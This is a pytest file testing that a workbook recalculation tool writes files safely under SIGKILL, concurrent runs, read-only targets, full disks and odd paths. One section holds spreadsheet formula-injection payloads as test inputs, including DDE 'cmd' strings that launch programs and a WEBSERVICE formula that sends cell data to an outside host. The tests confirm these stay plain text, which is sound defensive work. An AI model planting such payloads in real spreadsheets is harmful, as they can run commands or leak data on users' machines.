"""Writing safely (issue 5): `xlcost recalc` never leaves a damaged, mixed or half-written workbook.

Process-level tests: SIGKILL at random moments, two recalcs at once, a read-only file, folder and
drive, a full disk (injected, and a real tiny tmpfs when this process may mount one), an awkward path,
and formula-looking text that must stay text in Excel's file format and in LibreOffice.

The writer's own unit tests live in tests/test_writer.py; these run the real command.
"""

from __future__ import annotations

import errno
import hashlib
import io
import os
import random
import re
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest

from xlcost import api, cli, contract
from xlcost.workbook.package import Package

ROOT = Path(__file__).resolve().parents[1]
SHIPPED = ROOT / "workbooks" / "llm_cost_model.xlsx"
PRICE_CELL = ("GPU Offers", "F5")  # USD per instance-hour of the first offer (32.77 in the seed)


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def set_cells(data: bytes, changes: dict[tuple[str, str], float | str]) -> bytes:
    """Edit input cells in the package's XML (results are left stale, as after editing in Excel)."""
    pkg = Package.from_bytes(data)
    parts: dict[str, list[tuple[str, float | str]]] = {}
    for (sheet, ref), value in changes.items():
        parts.setdefault(pkg.sheet_part(sheet), []).append((ref, value))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            for ref, value in parts.get(info.filename, []):
                body = _set_cell(body, ref, value)
            dst.writestr(info, body)
    return out.getvalue()


def _set_cell(xml: bytes, ref: str, value: float | str) -> bytes:
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"((?:\s[^>]*?)?)(?:/>|>.*?</c>)', re.S)
    match = pattern.search(xml)
    assert match, ref
    style = re.search(rb'\ss="\d+"', match.group(1))
    s = style.group(0).decode() if style else ""
    if isinstance(value, str):
        new = f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>'
    else:
        new = f'<c r="{ref}"{s}><v>{value!r}</v></c>'
    return xml[:match.start()] + new.encode() + xml[match.end():]


def stale_workbook(price: float) -> bytes:
    """The shipped workbook with a new GPU price typed in and its results not yet recalculated."""
    return set_cells(SHIPPED.read_bytes(), {PRICE_CELL: price})


def key_figure(path: Path, figure_id: str) -> float:
    """A key figure as written on the Key Figures result sheet (not recomputed)."""
    sheet = contract.RESULTS["key_figures"].sheet if "key_figures" in contract.RESULTS else "Key Figures"
    cells = Package.open(path).cells(sheet)
    for (row, col), cell in cells.items():
        if col == 1 and cell.value == figure_id:
            return cells[(row, 3)].value
    raise KeyError(figure_id)


def expected_gpu_hour(price: float) -> float:
    return (price / 8 + 28.50 / 8 + 30.05 / 8) / 3


def writer_temp_files(folder: Path, name: str) -> list[str]:
    """Files the writer may leave when killed (and removes on its next run): .<name>.xlcost-<hex>.tmp"""
    pattern = re.compile(re.escape(f".{name[:150]}.xlcost-") + r"[0-9a-f]+\.tmp")
    others = [p.name for p in folder.iterdir() if p.name != name]
    unexpected = [n for n in others if not pattern.fullmatch(n)]
    assert not unexpected, f"files the writer does not know about: {unexpected}"
    return others


def assert_complete_and_current(path: Path, price: float) -> None:
    """The file opens, its inputs check, and its result sheets show the results of those inputs."""
    outcome = api.check(path)
    assert outcome.ok, [str(p) for p in outcome.problems]
    assert key_figure(path, "usd_per_gpu_hour") == pytest.approx(expected_gpu_hour(price), rel=1e-12)


def spawn(*args: str | Path, **kw) -> subprocess.Popen[str]:
    return subprocess.Popen([sys.executable, "-m", "xlcost", *map(str, args)], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, **kw)


def run(*args: str | Path, **kw) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "xlcost", *map(str, args)], capture_output=True, text=True,
                          timeout=120, **kw)


# ---------------------------------------------------------------------------------------------
# SIGKILL at random moments
# ---------------------------------------------------------------------------------------------


def test_sigkill_at_random_moments_leaves_old_or_new_file(tmp_path: Path) -> None:
    runs = int(os.environ.get("XLCOST_KILL_RUNS", "50"))
    seed = int(os.environ.get("XLCOST_KILL_SEED", str(random.randrange(1 << 30))))
    rng = random.Random(seed)
    path = tmp_path / "model.xlsx"
    # how long one full recalc takes here, so kills spread over the whole run (0-400 ms or longer)
    path.write_bytes(stale_workbook(31.0))
    started = time.perf_counter()
    assert run("recalc", path).returncode == 0
    full = time.perf_counter() - started
    window = max(0.4, 1.1 * full)
    outcomes = {"old": 0, "new": 0}
    leftovers = 0
    for i in range(runs):
        price = round(30.0 + i / 100, 2)
        path.write_bytes(stale_workbook(price))
        old = sha(path)
        proc = spawn("recalc", path)
        time.sleep(rng.uniform(0, window))
        proc.send_signal(signal.SIGKILL)
        proc.communicate(timeout=60)
        if sha(path) == old:
            outcomes["old"] += 1
        else:
            outcomes["new"] += 1
            assert_complete_and_current(path, price)
        leftovers += len(writer_temp_files(tmp_path, path.name))
    print(f"\n{runs} kills within {window * 1000:.0f} ms (seed {seed}): {outcomes}, temp files left by "
          f"killed runs: {leftovers}")
    assert outcomes["old"] + outcomes["new"] == runs
    # the next complete run cleans up whatever killed runs left
    path.write_bytes(stale_workbook(29.99))
    result = run("recalc", path)
    assert result.returncode == 0, result.stderr
    assert_complete_and_current(path, 29.99)
    assert writer_temp_files(tmp_path, path.name) == []


# ---------------------------------------------------------------------------------------------
# Two recalcs at once
# ---------------------------------------------------------------------------------------------


def test_two_recalcs_at_once_never_mix(tmp_path: Path) -> None:
    path = tmp_path / "model.xlsx"
    answers = []
    for i in range(5):
        price = 33.0 + i
        path.write_bytes(stale_workbook(price))
        procs = [spawn("recalc", path) for _ in range(2)]
        results = [(p.wait(timeout=120), *p.communicate()) for p in procs]
        codes = sorted(code for code, _, _ in results)
        answers.append(codes)
        assert codes in ([0, 0], [0, 2]), results
        for code, _, err in results:
            if code == 2:  # the loser says why, in one line, and changed nothing
                assert len(err.strip().splitlines()) == 1, err
                assert re.search(r"another xlcost run is writing|changed on disk since it was read", err), err
        assert_complete_and_current(path, price)
        assert writer_temp_files(tmp_path, path.name) == []
    print(f"\nexit codes of 5 pairs: {answers}")


# ---------------------------------------------------------------------------------------------
# Read-only file, folder and drive
# ---------------------------------------------------------------------------------------------


def test_read_only_file(tmp_path: Path) -> None:
    path = tmp_path / "model.xlsx"
    path.write_bytes(stale_workbook(31.5))
    path.chmod(0o444)
    before = sha(path)
    result = run("recalc", path)
    assert result.returncode == 2
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    assert "model.xlsx is read-only" in result.stderr, result.stderr
    assert sha(path) == before and stat.S_IMODE(path.stat().st_mode) == 0o444
    assert os.listdir(tmp_path) == ["model.xlsx"]


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_read_only_folder(tmp_path: Path) -> None:
    """A writable file in a folder the user cannot write to: the temp file cannot be created."""
    folder = tmp_path / "shared"
    folder.mkdir()
    path = folder / "model.xlsx"
    path.write_bytes(stale_workbook(31.5))
    folder.chmod(0o555)
    prefix: list[str] = []
    if os.geteuid() == 0:  # root ignores permissions: drop the capabilities that let it
        if shutil.which("setpriv") is None:
            pytest.skip("running as root without setpriv to drop CAP_DAC_OVERRIDE")
        prefix = ["setpriv", "--bounding-set=-dac_override,-dac_read_search"]
    before = sha(path)
    try:
        result = subprocess.run([*prefix, sys.executable, "-m", "xlcost", "recalc", str(path)], capture_output=True,
                                text=True, timeout=120)
    finally:
        folder.chmod(0o755)
    assert result.returncode == 2, result.stdout + result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    assert "model.xlsx was not changed" in result.stderr and "is read-only" in result.stderr, result.stderr
    assert sha(path) == before
    assert os.listdir(folder) == ["model.xlsx"]


@contextmanager
def tmpfs(size_kb: int) -> Iterator[Path]:
    """A tiny tmpfs of our own, or a skip when this process may not mount one."""
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("needs root to mount a tmpfs")
    mountpoint = Path(tempfile.mkdtemp(prefix="xlcost-tmpfs-"))
    result = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size_kb}k,mode=0755", "tmpfs", str(mountpoint)],
                            capture_output=True, text=True)
    if result.returncode != 0:
        mountpoint.rmdir()
        pytest.skip(f"cannot mount a tmpfs here: {result.stderr.strip()}")
    try:
        yield mountpoint
    finally:
        subprocess.run(["umount", str(mountpoint)], check=False)
        mountpoint.rmdir()


def test_read_only_drive() -> None:
    data = stale_workbook(31.5)
    with tmpfs(1024) as drive:
        path = drive / "model.xlsx"
        path.write_bytes(data)
        subprocess.run(["mount", "-o", "remount,ro", str(drive)], check=True)
        result = run("recalc", path)
        assert result.returncode == 2
        assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
        assert "read-only" in result.stderr, result.stderr
        assert path.read_bytes() == data


# ---------------------------------------------------------------------------------------------
# A full disk
# ---------------------------------------------------------------------------------------------


def test_full_disk_injected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                            capsys: pytest.CaptureFixture[str]) -> None:
    """The temp file's write fails half-way with ENOSPC: clear message, file untouched, temp removed."""
    path = tmp_path / "model.xlsx"
    path.write_bytes(stale_workbook(31.5))
    before = sha(path)
    real_fdopen = os.fdopen

    class FullDisk(io.RawIOBase):
        def __init__(self, f: io.BufferedWriter) -> None:
            self.f = f

        def write(self, data: bytes) -> int:  # type: ignore[override]
            self.f.write(bytes(data)[: len(data) // 2])
            self.f.flush()
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        def __enter__(self) -> FullDisk:
            return self

        def __exit__(self, *exc: object) -> None:
            self.f.close()

        def fileno(self) -> int:
            return self.f.fileno()

    def fdopen(fd: int, mode: str = "r", *args: object, **kw: object):  # type: ignore[no-untyped-def]
        f = real_fdopen(fd, mode, *args, **kw)
        return FullDisk(f) if "w" in mode else f

    monkeypatch.setattr(os, "fdopen", fdopen)
    capsys.readouterr()
    assert cli.main(["recalc", str(path)]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
    assert "model.xlsx was not changed: the disk is full" in err, err
    assert sha(path) == before
    assert os.listdir(tmp_path) == ["model.xlsx"]


def test_full_disk_real_tmpfs() -> None:
    data = stale_workbook(31.5)
    # room for the workbook but not for a second copy of it
    with tmpfs(len(data) // 1024 + 24) as drive:
        path = drive / "model.xlsx"
        path.write_bytes(data)
        result = run("recalc", path)
        assert result.returncode == 2, result.stdout
        assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
        assert "the disk is full" in result.stderr, result.stderr
        assert path.read_bytes() == data
        assert os.listdir(drive) == ["model.xlsx"]


# ---------------------------------------------------------------------------------------------
# Awkward paths
# ---------------------------------------------------------------------------------------------


def test_path_with_spaces_and_non_ascii(tmp_path: Path) -> None:
    folder = tmp_path / "Q3 models"
    folder.mkdir()
    path = folder / "ünïcode 模型 v2.xlsx"
    path.write_bytes(stale_workbook(31.25))
    result = run("recalc", path)
    assert result.returncode == 0, result.stderr
    assert_complete_and_current(path, 31.25)
    assert os.listdir(folder) == [path.name]
    result = run("export", path, "--format", "json", cwd=folder)
    assert result.returncode == 0 and '"name": "ünïcode 模型 v2.xlsx"' in result.stdout
    # bad input in it: the message names the file and the cell, and nothing changes
    path.write_bytes(set_cells(path.read_bytes(), {PRICE_CELL: "thirty"}))
    before = sha(path)
    result = run("recalc", path)
    assert result.returncode == 2 and "ünïcode 模型 v2.xlsx has 1 input error." in result.stderr
    assert "GPU Offers!F5" in result.stderr and sha(path) == before
    # Excel's and LibreOffice's lock files are found under the same awkward name
    path.write_bytes(stale_workbook(31.25))
    before = sha(path)
    for lock, app in (("~$ünïcode 模型 v2.xlsx", "Excel"), (".~lock.ünïcode 模型 v2.xlsx#", "LibreOffice")):
        (folder / lock).write_text("someone")
        result = run("recalc", path)
        assert result.returncode == 2 and f"is open in {app}" in result.stderr, result.stderr
        assert sha(path) == before
        (folder / lock).unlink()


# ---------------------------------------------------------------------------------------------
# Text that looks like a formula stays text
# ---------------------------------------------------------------------------------------------

FORMULA_LIKE = {
    ("Models", "B5"): '=HYPERLINK("http://x","y")',
    ("Models", "B6"): "+cmd|' /C calc'!A0",
    ("Models", "B7"): "@SUM(1)",
    ("Models", "B8"): "-2+3",
    ("Scenarios", "B5"): "=1+1",
    ("Scenarios", "B6"): "=cmd|' /C notepad'!'A1'",
    ("Scenarios", "B7"): "'quoted",
    ("Workflows", "B5"): '=WEBSERVICE("http://example.invalid/?"&A1)',
}
RESULT_SHEETS = sorted({r.sheet for r in contract.RESULTS.values()})


@pytest.fixture(scope="module")
def formula_text_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("formula_text") / "model.xlsx"
    path.write_bytes(set_cells(SHIPPED.read_bytes(), FORMULA_LIKE))
    result = run("recalc", path)
    assert result.returncode == 0, result.stderr
    return path


def _text_cells(wb: openpyxl.Workbook, sheets: list[str]) -> dict[str, list[tuple[str, str, object]]]:
    """hostile string -> [(sheet, cell, data_type)] for every result cell containing it."""
    found: dict[str, list[tuple[str, str, object]]] = {s: [] for s in FORMULA_LIKE.values()}
    for name in sheets:
        for row in wb[name].iter_rows():
            for c in row:
                for s in FORMULA_LIKE.values():
                    if isinstance(c.value, str) and s in c.value:
                        found[s].append((name, c.coordinate, c.data_type))
    return found


def test_formula_like_text_is_written_as_text(formula_text_book: Path) -> None:
    with zipfile.ZipFile(formula_text_book) as zf:
        pkg = Package.open(formula_text_book)
        for sheet in RESULT_SHEETS:
            xml = zf.read(pkg.sheet_part(sheet))
            assert b"<f>" not in xml and b"<f " not in xml, sheet  # the writer never writes a formula
    wb = openpyxl.load_workbook(formula_text_book)
    found = _text_cells(wb, RESULT_SHEETS)
    for text, places in found.items():
        assert places, f"{text!r} does not appear on any result sheet"
        assert all(data_type == "s" for _, _, data_type in places), (text, places)
    # the exact strings survive (a name is the whole cell in the unit-cost table)
    assert any(c.value == '=HYPERLINK("http://x","y")' for row in wb["Unit Costs"].iter_rows() for c in row)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_formula_like_text_stays_text_in_libreoffice(formula_text_book: Path, tmp_path: Path) -> None:
    """LibreOffice opens the recalculated file and, saving it again, still holds the literal text."""
    profile = tmp_path / "lo-profile"
    outdir = tmp_path / "out"
    result = subprocess.run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
                             "xlsx:Calc MS Excel 2007 XML", "--outdir", str(outdir), str(formula_text_book)],
                            capture_output=True, text=True, timeout=180)
    converted = outdir / formula_text_book.name
    assert converted.exists(), result.stdout + result.stderr
    wb = openpyxl.load_workbook(converted)
    found = _text_cells(wb, [s for s in RESULT_SHEETS if s in wb.sheetnames])
    for text, places in found.items():
        assert places, f"LibreOffice lost {text!r}"
        assert all(data_type == "s" for _, _, data_type in places), (text, places)
    assert any(c.value == '=HYPERLINK("http://x","y")' for row in wb["Unit Costs"].iter_rows() for c in row)
